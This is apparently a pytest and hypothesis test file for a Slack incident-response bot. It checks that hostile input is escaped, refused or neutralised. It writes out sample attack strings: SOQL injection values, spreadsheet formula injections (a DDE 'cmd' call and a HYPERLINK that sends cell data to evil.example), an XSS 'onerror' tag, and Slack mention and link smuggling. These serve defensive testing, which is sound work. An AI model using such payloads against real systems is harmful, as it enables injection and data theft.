"""Hostile and odd input: whatever arrives, never a 500, never a trace, never a mention or link it did not mean."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections.abc import Iterator
from typing import Any

import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.render.modals import DECLARE_CALLBACK, RESOLVE_CALLBACK, RUN_CALLBACK, SKIP_CALLBACK
from bot.web import MAX_BODY_BYTES
from tests.conftest import RunningBot, jwt_settings
from tests.driver import click, declare, declared_channel, ephemeral_texts, message, open_phase, text_of
from tests.fakes.salesforce import FakeSalesforce

SETTINGS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
VERBS = [
    "declare",
    "status",
    "playbook",
    "killswitch",
    "note",
    "signal",
    "mitigated",
    "timeline",
    "resolve",
    "action",
    "postmortem",
    "sev",
    "lead",
    "role",
    "update",
    "ack",
    "help",
    "declare --private",
    "declare sev1",
]
ACTIONS = [
    "step.done",
    "step.na",
    "step.skip",
    "step.run",
    "step.choose:one-user",
    "playbook.pick",
    "phase.next",
    "switch.open",
    "switch.approve",
    "switch.deny",
    "switch.revert",
    "incident.ack",
    "incident.severity",
    "incident.declare_private",
    "timeline.page",
    "step.link",
]
TRACE = ("Traceback", "Exception", "Error:", "Something went wrong")
text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=120)


def assert_clean(bot: RunningBot) -> None:
    said = json.dumps([*bot.fake.responses, *bot.fake.ephemerals])
    assert not [word for word in TRACE if word in said], said[-2000:]


@SETTINGS
@given(command=st.one_of(text, st.tuples(st.sampled_from(VERBS), text).map(" ".join)))
def test_any_command_text(bot: RunningBot, command: str) -> None:
    response = bot.slack.command(command, channel_id="C0GENERAL")
    assert response.status_code == 200
    assert "Traceback" not in response.text
    assert_clean(bot)


@SETTINGS
@given(
    action=st.sampled_from(ACTIONS),
    value=st.one_of(text, st.from_regex(r"\A[0-9]{1,3}:[a-z-]{0,12}(:[a-z-]{0,12})?\Z")),
)
def test_any_button_value(bot: RunningBot, action: str, value: str) -> None:
    channel = bot.fake.channel_named("inc-") or declare(bot)
    checklist = next(iter(channel.messages.values()))
    response = bot.slack.click(action, value, channel_id=channel.id, message_ts=checklist["ts"])
    assert response.status_code == 200
    assert_clean(bot)


@SETTINGS
@given(title=text, severity=st.one_of(st.sampled_from(["1", "2", "3", "4"]), text), summary=text)
def test_any_declare_form(bot: RunningBot, title: str, severity: str, summary: str) -> None:
    if not bot.fake.open_views(DECLARE_CALLBACK):
        bot.slack.command("")
    view = bot.fake.wait_until(lambda: bot.fake.open_views(DECLARE_CALLBACK))[-1]
    response = bot.slack.submit(view, {"title": title, "severity": severity, "summary": summary})
    assert response.status_code == 200
    if response.text:
        assert response.json()["response_action"] == "errors"
    assert_clean(bot)


@SETTINGS
@given(
    payload=st.recursive(
        st.none() | st.booleans() | st.integers() | text,
        lambda children: st.lists(children, max_size=4) | st.dictionaries(text, children, max_size=4),
        max_leaves=12,
    ),
    kind=st.sampled_from(["block_actions", "view_submission", "view_closed", "shortcut", "message_action", None]),
)
def test_any_payload_shape(bot: RunningBot, payload: Any, kind: str | None) -> None:
    body = payload if isinstance(payload, dict) else {"value": payload}
    if kind:
        body["type"] = kind
    response = bot.slack.post_payload(body)
    assert response.status_code != 500 and "Traceback" not in response.text


def test_echoed_text_cannot_mention_or_link(bot: RunningBot) -> None:
    channel = declare(bot)
    hostile = "<!channel> <!here> <@U0BOB0001> <https://evil.example|click> &amp;"
    bot.slack.command(f"note {hostile}", channel_id=channel.id)
    bot.slack.command("timeline", channel_id=channel.id)
    timeline = bot.fake.wait_until(
        lambda: next((m for m in channel.messages.values() if "Timeline of" in m.get("text", "")), None)
    )
    shown = text_of(timeline)
    assert "&lt;!channel&gt; &lt;!here&gt; &lt;@U0BOB0001&gt; &lt;https://evil.example|click&gt; &amp;amp;" in shown
    assert "<!channel>" not in shown and "<https://evil" not in shown
    checklist = message(bot, channel, "first-five")
    click(bot, channel, checklist, "step.skip", "vendor-status")
    view = bot.fake.wait_until(lambda: bot.fake.open_views(SKIP_CALLBACK))[-1]
    bot.slack.submit(view, {"reason": hostile})
    bot.fake.wait_until(lambda: "Skipped by" in text_of(checklist))
    assert "<!here>" not in text_of(checklist)


def test_over_long_input_is_refused_or_cut(bot: RunningBot) -> None:
    channel = declare(bot)
    answer = bot.slack.command("note " + "x" * 2500, channel_id=channel.id)
    assert answer.text == "Keep the note to 2000 characters; this one has 2500."
    bot.slack.command("note " + "y" * 1900, channel_id=channel.id)
    bot.wait_quiet()  # the note is on the timeline before the timeline is asked for
    bot.slack.command("timeline", channel_id=channel.id)
    timeline = bot.fake.wait_until(
        lambda: next((m for m in channel.messages.values() if "Timeline of" in m.get("text", "")), None)
    )
    assert "y" * 139 + "…" in text_of(timeline)  # cut in the view, kept whole on the timeline


def test_soql_injection_is_refused_before_any_query(bot_factory: Any, fake_org: FakeSalesforce) -> None:
    bot = bot_factory(**jwt_settings(fake_org))
    channel = declare(bot)
    diagnose = open_phase(bot, channel, "prompt-injection", "diagnose")
    click(bot, channel, diagnose, "step.run", "suspect-dml")
    view = bot.fake.wait_until(lambda: bot.fake.open_views(RUN_CALLBACK))[-1]
    for attack in ("005' OR Name != '", "005000000000ABC' OR ''='", "005000000000ABC\\"):
        answer = bot.slack.submit(view, {"suspect_user_id": attack})
        assert answer.json()["response_action"] == "errors"
    time.sleep(0.2)
    assert not [path for _, path in fake_org.calls if "FM_Org_Chat_Dml_Audit__c" in path]
    assert ephemeral_texts(bot)[-1].startswith(":rotating_light: Declared")


def test_a_body_larger_than_slack_sends_is_refused_unread(bot: RunningBot) -> None:
    too_big = b"x" * (MAX_BODY_BYTES + 1)
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    sized = requests.post(bot.url, data=too_big, headers=form, timeout=30)
    assert sized.status_code == 413

    def chunks() -> Iterator[bytes]:  # no Content-Length: refused once the limit is passed
        for _ in range(64):
            yield b"x" * (64 * 1024)

    chunked = requests.post(bot.url, data=chunks(), headers=form, timeout=30)
    assert chunked.status_code == 413
    assert bot.slack.command("help").status_code == 200  # and the next request is served


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"LIMIT 9999")',
    "+cmd|' /C calc'!A0 LIMIT 9999",
    "-2+3 LIMIT 9999",
    "@SUM(1+1) LIMIT 9999",
    "\t=1+1 LIMIT 9999",
    "\r=1+1 LIMIT 9999",
    "```\nLIMIT 9999 <!channel> ``` *bold*",
]


def test_query_results_cannot_run_in_a_spreadsheet_or_break_the_table(
    bot_factory: Any, fake_org: FakeSalesforce
) -> None:
    """Playbook 4 exports `Detail__c`, text typed by the very person under investigation."""
    bot = bot_factory(**jwt_settings(fake_org))
    audits = fake_org.rows("FM_Run_Audit__c")
    suspect = next(row for row in audits if "LIMIT 9999" in (row.get("Detail__c") or ""))
    audits.extend(
        {**suspect, "Id": f"a02{index:012d}AAA", "Detail__c": detail} for index, detail in enumerate(FORMULAS)
    )
    channel = declare(bot)
    discovery = open_phase(bot, channel, "prompt-injection", "discovery")
    click(bot, channel, discovery, "step.run", "suspect-turns")
    export = bot.fake.wait_until(
        lambda: next((f for f in bot.fake.files.values() if "suspect-turns" in f["name"] and f.get("content")), None)
    )
    cells = [row["Detail__c"] for row in csv.DictReader(io.StringIO(export["content"].decode()))]
    for formula in FORMULAS[:-1]:
        assert "'" + formula in cells  # a leading quote: shown as text, never evaluated
    assert FORMULAS[-1] in cells and "SELECT Id, Email FROM Contact LIMIT 9999" in cells  # the rest untouched
    table = bot.fake.wait_until(  # the step's table, not a chart the declare-time probes posted
        lambda: next((m for m in channel.messages.values() if is_table(m) and "LIMIT 9999" in text_of(m)), None)
    )
    block = next(b["text"]["text"] for b in table["blocks"] if b["type"] == "section" and "```" in b["text"]["text"])
    assert block.startswith("```") and block.endswith("```") and block.count("```") == 2  # the block stays shut
    assert "<!channel>" not in block


def is_table(message: dict[str, Any]) -> bool:
    return ":bar_chart:" in json.dumps(message.get("blocks", [])) and "```" in text_of(message)


HOSTILE = (
    "Fine](https://evil.example) <img src=x onerror=alert(1)>\n# Owned\n> quoted\n- [click](https://evil.example)\n"
    "| a | b |\n```"
)


def test_peoples_text_stays_inert_in_the_postmortem(bot: RunningBot) -> None:
    bot.slack.command("")
    view = bot.fake.wait_until(lambda: bot.fake.open_views(DECLARE_CALLBACK))[-1]
    bot.slack.submit(view, {"title": "Org Chat [click](https://evil.example)", "severity": "2", "summary": HOSTILE})
    channel = declared_channel(bot)  # the declarer invited: resolving is a member's to do
    bot.slack.command("resolve", channel_id=channel.id)
    resolve = bot.fake.wait_until(lambda: bot.fake.open_views(RESOLVE_CALLBACK))[-1]
    bot.slack.submit(resolve, {"root_cause": HOSTILE, "customer_impact": HOSTILE, "lessons": HOSTILE})
    markdown = bot.fake.wait_until(lambda: next(iter(bot.fake.canvases.values()), None))["markdown"]
    assert markdown.startswith("# Post-mortem: INC-1 Org Chat \\[click\\](https://evil.example)\n")
    assert "](https://evil.example)" not in markdown.replace("\\](https://evil.example)", "")  # no link survives
    assert not re.search(r"(?<!\\)<img", markdown) and "```" not in markdown  # only escaped: \\<img
    lines = markdown.splitlines()
    assert not [line for line in lines if line.startswith(("# Owned", "> quoted", "- \\[click", "- [click", "| a |"))]
    assert markdown.count("Fine\\](https://evil.example) \\<img src=x onerror=alert(1)\\> # Owned") == 4
